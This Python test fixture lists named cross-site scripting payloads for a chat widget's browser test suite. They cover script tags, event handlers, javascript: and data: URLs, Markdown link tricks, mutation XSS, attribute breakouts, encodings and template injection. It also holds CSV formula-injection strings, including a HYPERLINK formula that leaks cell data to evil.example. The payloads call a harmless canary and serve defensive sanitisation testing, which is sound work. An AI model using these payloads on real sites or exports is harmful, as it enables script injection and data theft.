"""Hostile strings for the browser XSS suite (tests/browser/test_xss_payloads.py).

Every payload is named. One that would run code calls the global canary
``__xss('<its name>')`` (or opens a dialog), so a test that defines the canary knows
exactly which payload got through. Every element a payload tries to create that could
run or show something has the class ``xss`` (or is a ``script`` or ``style``), so an
audit of a page finds it even where the browser would not run it; the wrappers of the
mutation payloads (``math``, ``template``, ``noscript``) are forbidden elements anyway.

``markdown`` is what a Markdown view (the widget's assistant and agent messages)
shows, with whitespace runs collapsed to one space: the label of a dropped link, the
text of ``code`` or ``strong``. It is None where that is the text itself.
"""

from __future__ import annotations

import re
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    kind: str
    text: str
    markdown: str | None = None

    @property
    def typed(self) -> str:
        """What a person can send: the widget, the console and the server trim."""
        return self.text.strip()

    @property
    def sendable(self) -> bool:
        """Visitors and agents cannot send NUL: the server refuses it (PostgreSQL would)."""
        return "\x00" not in self.text

    @property
    def shown_as_markdown(self) -> str:
        return collapse(self.markdown if self.markdown is not None else self.text)


def collapse(text: str) -> str:
    """Whitespace runs as one space, as HTML shows text outside `pre`.

    JavaScript's \\s, not Python's: the browser-side audits collapse the same way.
    """
    return re.sub(r"[\t\n\v\f\r \u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff]+",
                  " ", text).strip()  # fmt: skip


# A single line longer than the widget's inline-Markdown limit (3,000 characters),
# and a many-line one whose every line is a hostile link: both under the 4,000-character
# message limit.
_LONG_LINE = ("<img src=x class=xss onerror=__xss('long-line')>" * 84)[:3990]
_LONG_LINES = "\n".join(["[go](javascript:__xss('long-lines'))"] * 100)

PAYLOADS: list[Payload] = [
    # --- script elements --------------------------------------------------------------
    Payload("script-tag", "html", "<script>__xss('script-tag')</script>"),
    Payload(
        "script-src-data", "html",
        "<script src=\"data:text/javascript,__xss('script-src-data')\" class=xss></script>",
    ),
    Payload("script-split", "html", "<scr<script>ipt>__xss('script-split')</scr</script>ipt>"),
    # --- event handlers ---------------------------------------------------------------
    Payload("img-onerror", "event", "<img src=x class=xss onerror=\"__xss('img-onerror')\">"),
    Payload("svg-onload", "event", "<svg class=xss onload=__xss('svg-onload')>"),
    Payload("body-onload", "event", "<body class=xss onload=__xss('body-onload')>"),
    Payload(
        "details-ontoggle", "event",
        "<details open class=xss ontoggle=__xss('details-ontoggle')><summary>s</summary></details>",
    ),
    Payload(
        "autofocus-onfocus", "event",
        "<input autofocus class=xss onfocus=__xss('autofocus-onfocus')>",
    ),
    Payload(
        "video-source-onerror", "event",
        "<video><source class=xss onerror=__xss('video-source-onerror')></video>",
    ),
    Payload(
        "onanimationstart", "event",
        "<style>@keyframes xss{}</style>"
        "<b class=xss style=animation-name:xss onanimationstart=__xss('onanimationstart')>b</b>",
    ),
    Payload(
        "svg-animate-alert", "event",
        "<svg><animate class=xss onbegin=alert('svg-animate-alert') attributeName=x dur=1s>",
    ),
    # --- javascript:, data:, vbscript: URLs in HTML -----------------------------------
    Payload("a-javascript", "url", "<a class=xss href=\"javascript:__xss('a-javascript')\">go</a>"),
    Payload(
        "iframe-javascript", "url",
        "<iframe class=xss src=\"javascript:parent.__xss('iframe-javascript')\"></iframe>",
    ),
    Payload(
        "object-data", "url",
        "<object class=xss data=\"data:text/html,<script>parent.__xss('object-data')</script>\">",
    ),
    Payload(
        "form-action", "url",
        "<form class=xss action=\"javascript:__xss('form-action')\"><button>go</button></form>",
    ),
    Payload("base-href", "url", "<base class=xss href=\"javascript:__xss('base-href')//\">"),
    Payload(
        "iframe-srcdoc", "url",
        "<iframe class=xss srcdoc=\"<img src=x onerror=parent.__xss('iframe-srcdoc')>\"></iframe>",
    ),
    Payload(
        "meta-refresh", "url",
        "<meta class=xss http-equiv=refresh content=\"0;url=javascript:__xss('meta-refresh')\">",
    ),
    # --- Markdown link and image tricks -----------------------------------------------
    Payload("md-safe-link", "markdown", "[help](https://ok.example/help)", markdown="help"),
    Payload("md-js", "markdown", "[click me](javascript:__xss('md-js'))", markdown="click me"),
    Payload("md-js-case", "markdown", "[case](JaVaScRiPt:__xss('md-js-case'))", markdown="case"),
    Payload(
        "md-js-entity", "markdown", "[ent](&#106;avascript:__xss('md-js-entity'))", markdown="ent"
    ),
    Payload(
        "md-js-hex-colon", "markdown", "[hex](&#x6A;avascript&colon;__xss('md-js-hex-colon'))",
        markdown="hex",
    ),
    Payload("md-js-space", "markdown", "[sp](   javascript:__xss('md-js-space'))", markdown="sp"),
    # A tab inside the scheme: no link syntax matches, the text is shown as it is.
    Payload("md-js-tab", "markdown", "[tab](java\tscript:__xss('md-js-tab'))"),
    Payload(
        "md-data", "markdown",
        "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoJ21kLWRhdGEnKTwvc2NyaXB0Pg==)",
        markdown="data",
    ),
    Payload("md-vbscript", "markdown", "[vb](vbscript:msgbox(\"md-vbscript\"))", markdown="vb"),
    Payload("md-autolink", "markdown", "<javascript:__xss('md-autolink')>"),
    Payload(
        "md-reference", "markdown", "[ref][xss]\n\n[xss]: javascript:__xss('md-reference')"
    ),
    Payload(
        "md-nested", "markdown",
        "[a [b](javascript:__xss('md-nested'))](https://ok.example/nested)",
        markdown="a [b](https://ok.example/nested)",
    ),
    Payload("md-image", "markdown", "![pic](javascript:__xss('md-image'))", markdown="!pic"),
    Payload(
        "md-image-attr", "markdown",
        "![x](https://ok.example/x.png\" onerror=\"__xss('md-image-attr'))",
    ),
    Payload(
        "md-href-quote", "markdown", "[q](https://ok.example/a\"onmouseover=\"__xss('md-href-quote'))",
        markdown="q",
    ),
    Payload(
        "md-label-markup", "markdown",
        "[<img src=x class=xss onerror=__xss('md-label-markup')>](https://ok.example/label)",
        markdown="<img src=x class=xss onerror=__xss('md-label-markup')>",
    ),
    Payload(
        "md-bare-breakout", "markdown",
        "https://ok.example/bare\"><img src=x class=xss onerror=__xss('md-bare-breakout')>",
    ),
    Payload(
        "md-code", "markdown", "`<img src=x class=xss onerror=__xss('md-code')>`",
        markdown="<img src=x class=xss onerror=__xss('md-code')>",
    ),
    Payload(
        "md-bold", "markdown", "**<svg class=xss onload=__xss('md-bold')>**",
        markdown="<svg class=xss onload=__xss('md-bold')>",
    ),
    Payload(
        "md-heading", "markdown", "# <img src=x class=xss onerror=__xss('md-heading')>",
        markdown="<img src=x class=xss onerror=__xss('md-heading')>",
    ),
    Payload(
        "md-ordered-list", "markdown", "7. <img src=x class=xss onerror=__xss('md-ordered-list')>",
        markdown="<img src=x class=xss onerror=__xss('md-ordered-list')>",
    ),
    Payload(
        "md-fence", "markdown", "```html\n<script>__xss('md-fence')</script>\n```",
        markdown="<script>__xss('md-fence')</script>",
    ),
    # --- mutation XSS: markup that changes meaning when parsed again -------------------
    Payload(
        "mxss-noscript", "mxss",
        "<noscript><p title=\"</noscript><img src=x class=xss onerror=__xss('mxss-noscript')>\">",
    ),
    Payload(
        "mxss-svg-style", "mxss",
        "<svg><p><style><img src=x class=xss onerror=__xss('mxss-svg-style')></style></p></svg>",
    ),
    Payload(
        "mxss-mglyph", "mxss",
        "<math><mtext><table><mglyph><style><img src=x class=xss onerror=__xss('mxss-mglyph')>",
    ),
    Payload(
        "mxss-textarea", "mxss", "</textarea><img src=x class=xss onerror=__xss('mxss-textarea')>"
    ),
    Payload("mxss-title", "mxss", "</title><img src=x class=xss onerror=__xss('mxss-title')>"),
    Payload("mxss-style", "mxss", "</style><img src=x class=xss onerror=__xss('mxss-style')>"),
    Payload(
        "mxss-template", "mxss",
        "<template><style></template><img src=x class=xss onerror=__xss('mxss-template')></style>",
    ),
    Payload(
        "mxss-namespace", "mxss",
        "<svg></p><style><a id=\"</style><img src=x class=xss onerror=__xss('mxss-namespace')>\">",
    ),
    Payload(
        "mxss-comment", "mxss",
        "<!--<img src=\"--><img src=x class=xss onerror=__xss('mxss-comment')//\">",
    ),
    Payload(
        "mxss-cdata", "mxss",
        "<svg><![CDATA[><img src=x class=xss onerror=__xss('mxss-cdata')>]]></svg>",
    ),
    # --- breaking out of attributes, strings and scripts ----------------------------------
    Payload("attr-double", "attribute", "\"><img src=x class=xss onerror=__xss('attr-double')>"),
    Payload("attr-single", "attribute", "'><svg class=xss onload=__xss('attr-single')>"),
    Payload(
        "attr-backtick", "attribute", "`><img src=x class=xss onerror=__xss`attr-backtick`>` x=`",
        # Backticks are Markdown code spans here.
        markdown="><img src=x class=xss onerror=__xssattr-backtick> x=`",
    ),
    Payload("attr-unquoted", "attribute", "x autofocus onfocus=__xss('attr-unquoted') class=xss"),
    Payload("js-string", "attribute", "';__xss('js-string');//\";__xss('js-string');//"),
    Payload(
        "script-close", "attribute", "</script><script class=xss>__xss('script-close')</script>"
    ),
    # --- CSS ----------------------------------------------------------------------------
    Payload(
        "css-expression", "css",
        "<div class=xss style=\"width:expression(__xss('css-expression'))\">e</div>",
    ),
    Payload(
        "css-url", "css", "<p class=xss style=\"background:url(javascript:__xss('css-url'))\">u</p>"
    ),
    Payload(
        "css-overlay", "css",
        "<div class=xss style=\"position:fixed;inset:0;z-index:2147483647;background:red\">"
        "css-overlay</div>",
    ),
    # --- encodings and invisible characters -----------------------------------------------
    Payload("entity-text", "encoding", "&lt;img src=x onerror=__xss('entity-text')&gt; &amp;lt;"),
    Payload(
        "entity-href", "encoding",
        "<a class=xss href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "__xss('entity-href')\">e</a>",
    ),
    Payload(
        "unicode-escape", "encoding",
        "\\u003cimg src=x onerror=__xss('unicode-escape')\\u003e \\x3cscript\\x3e",
    ),
    Payload("url-encoded", "encoding", "%3Cimg%20src%3Dx%20onerror%3D__xss('url-encoded')%3E"),
    Payload("fullwidth", "encoding", "\uff1cimg src=x onerror=__xss('fullwidth')\uff1e"),
    Payload(
        "rtl-override", "encoding",
        # Never closed: it would reverse whatever the page shows after it on the line.
        "invoice \u202efdp.exe <img src=x class=xss onerror=__xss('rtl-override')>",
    ),
    Payload(
        "zero-width", "encoding",
        "<im\u200bg src=x class=xss onerror=__xss('zero-width')> "
        "[z](java\u200bscript:__xss('zero-width'))",
        markdown="<im\u200bg src=x class=xss onerror=__xss('zero-width')> z",
    ),
    Payload("nul-byte", "encoding", "<img src=x class=xss onerr\x00or=__xss('nul-byte')>"),
    Payload("utf7", "encoding", "+ADw-script+AD4-__xss('utf7')+ADw-/script+AD4-"),
    # --- very long --------------------------------------------------------------------
    Payload("long-line", "long", _LONG_LINE),
    Payload("long-lines", "long", _LONG_LINES, markdown=" ".join(["go"] * 100)),
    # --- template injection -------------------------------------------------------------
    Payload(
        "template-curly", "template",
        "{{7*7}} {{constructor.constructor('__xss(\"template-curly\")')()}}",
    ),
    Payload(
        "template-dollar", "template", "${7*7} #{7*7} <%= 7*7 %> {% debug %} {{ request }}",
        # "*7} #{7*" is emphasis in Markdown.
        markdown="${77} #{77} <%= 7*7 %> {% debug %} {{ request }}",
    ),
    # --- spreadsheet formulas in CSV exports -----------------------------------------------
    Payload("csv-equals", "csv", "=cmd|' /C calc'!A0"),
    Payload("csv-plus", "csv", "+SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("csv-minus", "csv", "-2+3+cmd|' /C calc'!A0"),
    Payload("csv-at", "csv", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("csv-hyperlink", "csv", "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")"),
    Payload("csv-tab", "csv", "\t=2+5+cmd|' /C calc'!A0"),
    Payload("csv-cr", "csv", "\r=3+5+cmd|' /C calc'!A0"),
    Payload("csv-fullwidth", "csv", "\uff1d4+5+cmd|' /C calc'!A0"),
]  # fmt: skip

BY_NAME: dict[str, Payload] = {p.name: p for p in PAYLOADS}
# What a person can type: everything but NUL.
TYPED: list[Payload] = [p for p in PAYLOADS if p.sendable]
# Formula prefixes a spreadsheet runs (OWASP CSV injection), incl. full-width forms.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

assert len(BY_NAME) == len(PAYLOADS), "payload names must be unique"
assert len({p.text for p in PAYLOADS}) == len(PAYLOADS), "payload texts must be distinct"
assert all(len(p.typed) <= 4000 for p in PAYLOADS), "a message holds 4,000 characters at most"
# Each canary call names its own payload, so a report says which one ran.
assert all(set(re.findall(r"__xss[(`]['\"`]?([\w-]+)", p.text)) <= {p.name} for p in PAYLOADS), (
    "a payload's canary calls must carry its own name"
)


@dataclass(frozen=True)
class UrlPayload:
    """A help-centre article URL: staff-controlled, still never a script link."""

    name: str
    url: str
    # Whether the widget may link it: only absolute http(s) URLs.
    link: bool = False


URL_PAYLOADS: list[UrlPayload] = [
    UrlPayload("url-javascript", "javascript:__xss('url-javascript')"),
    UrlPayload("url-javascript-case", "JaVaScRiPt:__xss('url-javascript-case')"),
    UrlPayload("url-javascript-space", " \tjavascript:__xss('url-javascript-space')"),
    UrlPayload("url-javascript-newline", "java\nscript:__xss('url-javascript-newline')"),
    UrlPayload("url-javascript-entity", "&#106;avascript:__xss('url-javascript-entity')"),
    UrlPayload("url-javascript-comment", "javascript://ok.example/%0a__xss('url-javascript-comment')"),
    UrlPayload("url-data", "data:text/html,<script>parent.__xss('url-data')</script>"),
    UrlPayload("url-vbscript", "vbscript:msgbox('url-vbscript')"),
    UrlPayload("url-protocol-relative", "//evil.example/url-protocol-relative"),
    UrlPayload("url-relative", "/admin/"),
    UrlPayload("url-mailto", "mailto:help@example.com"),
    UrlPayload("url-empty", ""),
    UrlPayload("url-safe", "https://ok.example/help/reset", link=True),
    UrlPayload(
        "url-breakout", "https://ok.example/a\"><svg class=xss onload=__xss('url-breakout')>",
        link=True,
    ),
    UrlPayload(
        "url-query", "https://ok.example/s?q=<img src=x class=xss onerror=__xss('url-query')>",
        link=True,
    ),
]  # fmt: skip
